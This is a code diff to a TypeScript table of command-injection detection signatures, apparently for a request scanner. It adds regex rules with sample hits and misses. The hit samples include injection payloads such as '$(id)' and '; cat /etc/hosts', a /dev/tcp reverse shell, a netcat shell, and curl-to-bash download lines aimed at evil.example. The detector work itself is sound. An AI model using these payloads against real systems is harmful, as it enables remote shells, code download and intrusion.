@@ -1,7 +1,7 @@
 import { signaturesOf, type SignatureRow } from "./rows.ts";
-import { AGENT, COOKIES, HEADERS, INPUT, PATH, type Signature } from "./signature.ts";
-
-const ANYWHERE = INPUT | PATH | HEADERS | AGENT;
+import { injectsShell } from "./shell-injection.ts";
+import { AGENT, COOKIES, HEADERS, INPUT } from "./places.ts";
+import type { Signature } from "./signature.ts";
 
 /** Programs that attackers start, without those that are everyday words. */
 const PROGRAMS =
@@ -13,9 +13,55 @@ const TELLING =
 
 const ROWS: readonly SignatureRow[] = [
   {
+    slug: "rce-tokens",
+    title: "Command injection: a text that becomes a command of a shell",
+    detect: injectsShell,
+    needs: [";", "|", "&", "`", "$(", "$ifs", "${ifs", "\n"],
+    hits: [
+      "; sleep 15",
+      "&& sleep 10",
+      "; ls",
+      "| /bin/sleep 31",
+      ";id",
+      "|id|",
+      "127.0.0.1;id",
+      "$(id)",
+      "`id`",
+      "x; ping -c 3 203.0.113.7",
+      "'; cat /x",
+      "& dir c:\\",
+      "a.txt|id",
+      "a;u\\name -a",
+    ],
+    misses: [
+      "How to run; ls -la",
+      "name|id|date",
+      "more; less",
+      "cats & dogs",
+      "npm ci && npm test",
+      "ls | grep x",
+      "use `npm install` to install",
+      "index=main | head 10",
+      "https://a.example/?x=1&id=5&type=a",
+      "color:red;top:5px",
+      "Q&A",
+      "R&D; find out",
+      "set -e\nls -la",
+    ],
+  },
+  {
+    slug: "rce-command",
+    title: "Command injection: a command as a whole value",
+    pattern: String.raw`^ ?(?:/(?:usr/(?:local/)?)?s?bin/(?:id|ls|cat|uname|whoami|ping|sleep|wget|curl|nc|netcat|ps|netstat|ifconfig|rm|kill|passwd)(?:$|[ ;|&<>#])|/(?:usr/)?bin/(?:ba|z|k|c|da)?sh (?:-c|-i)\b|(?:cat|tac|head|tail|less|more|nl|od|xxd|strings|type) (?:-[a-z0-9]{1,4} )?(?:/(?:etc|proc|var/log|root)/|[a-z]:[/\\](?:boot|windows|winnt|inetpub))|cmd(?:\.exe)? /[ck] |(?:id|ls|dir|uname|whoami) ?[|;]{1,2} ?$|ping(?:\.exe)? (?:-[nicw] ?\d{1,4} )(?:127\.0\.0\.1|localhost|0\b))`,
+    needs: ["bin/", "cat ", "tac ", "head ", "tail ", "less ", "more ", "nl ", "od ", "xxd ", "strings ", "type ", "cmd", "id", "ls", "dir", "uname", "whoami", "ping"],
+    hits: ["/bin/ls -al", "/usr/bin/id", "cat /etc/motd", "id|", "ping -n 31 127.0.0.1", "cmd.exe /c dir", "/bin/sh -c id"],
+    misses: ["/bin/bash", "/usr/bin/python3", "cat pictures", "type: id", "ls -la", "head of state", "ping me"],
+  },
+  {
     slug: "rce-separator",
     title: "Command injection: a command with options behind a separator",
     pattern: String.raw`[;|&(${"`"}\n][ (]{0,3}(?:/(?:usr/|usr/local/)?s?bin/)?(?:${PROGRAMS})(?:\.exe)?(?: ?(?:-[a-z0-9]{1,12}[ ;|&/"']|-[a-z0-9]{1,12}$|--[a-z]|/[a-z0-9*?.]{2}|[<>] ?[/&]|\$[a-z({@]|&&|https?:|[a-z]:\\|~/|\.{1,2}/|\d{1,3}\.\d{1,3}\.\d)| /[a-z0-9*?.])`,
+    certainty: "likely",
     needs: [";", "|", "&", "(", "`"],
     hits: [
       "; cat /etc/hosts",
@@ -43,6 +89,7 @@ const ROWS: readonly SignatureRow[] = [
     slug: "rce-telling",
     title: "Command injection: a command that tells of the machine behind a separator",
     pattern: String.raw`[;|&(${"`"}\n][ (]{0,3}(?:/(?:usr/|usr/local/)?s?bin/)?(?:${TELLING})(?:\.exe)?(?:$|[ ;|&)${"`"}"'#])`,
+    certainty: "likely",
     needs: [
       "whoami",
       "uname",
@@ -70,8 +117,8 @@ const ROWS: readonly SignatureRow[] = [
     slug: "rce-system-path",
     title: "Command injection: a shell by its path",
     pattern: String.raw`/(?:usr/)?(?:local/)?s?bin/(?:(?:ba|z|k|c|da|tc)?sh|cat|id|ls|nc|ncat|netcat|perl|python[23]?|php|ruby|wget|curl|whoami|uname|env|ping|busybox|telnet)\b|/[?*]{1,4}/[?*a-z]{2,8} ?/|/b[?*][?*a-z]{0,3}/`,
+    certainty: "likely",
     needs: ["bin/", "/?", "/*", "/b?", "/b*"],
-    targets: ANYWHERE,
     hits: ["/bin/sh -c x", "/usr/bin/python3", "/bin/bash", "/???/c?t /etc", "/b?n/x"],
     misses: ["/cabin/she", "/bin/sheet", "/robin/cat"],
   },
@@ -98,7 +145,6 @@ const ROWS: readonly SignatureRow[] = [
       "downloadstring",
       "invoke-",
     ],
-    targets: ANYWHERE,
     hits: [
       "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
       "nc -e /bin/sh 1.2.3.4 1",
@@ -133,10 +179,9 @@ const ROWS: readonly SignatureRow[] = [
       "|ksh",
       "|dash",
     ],
-    targets: ANYWHERE,
     hits: ["wget http://evil.example/x", "curl -s https://evil.example|bash", "certutil -urlcache -f http://evil.example a.exe", "x|sh"],
     misses: ["curl: a tool", "wget is a program", "a | she said"],
-    isCertain: false,
+    certainty: "likely",
   },
   {
     slug: "rce-shellshock",
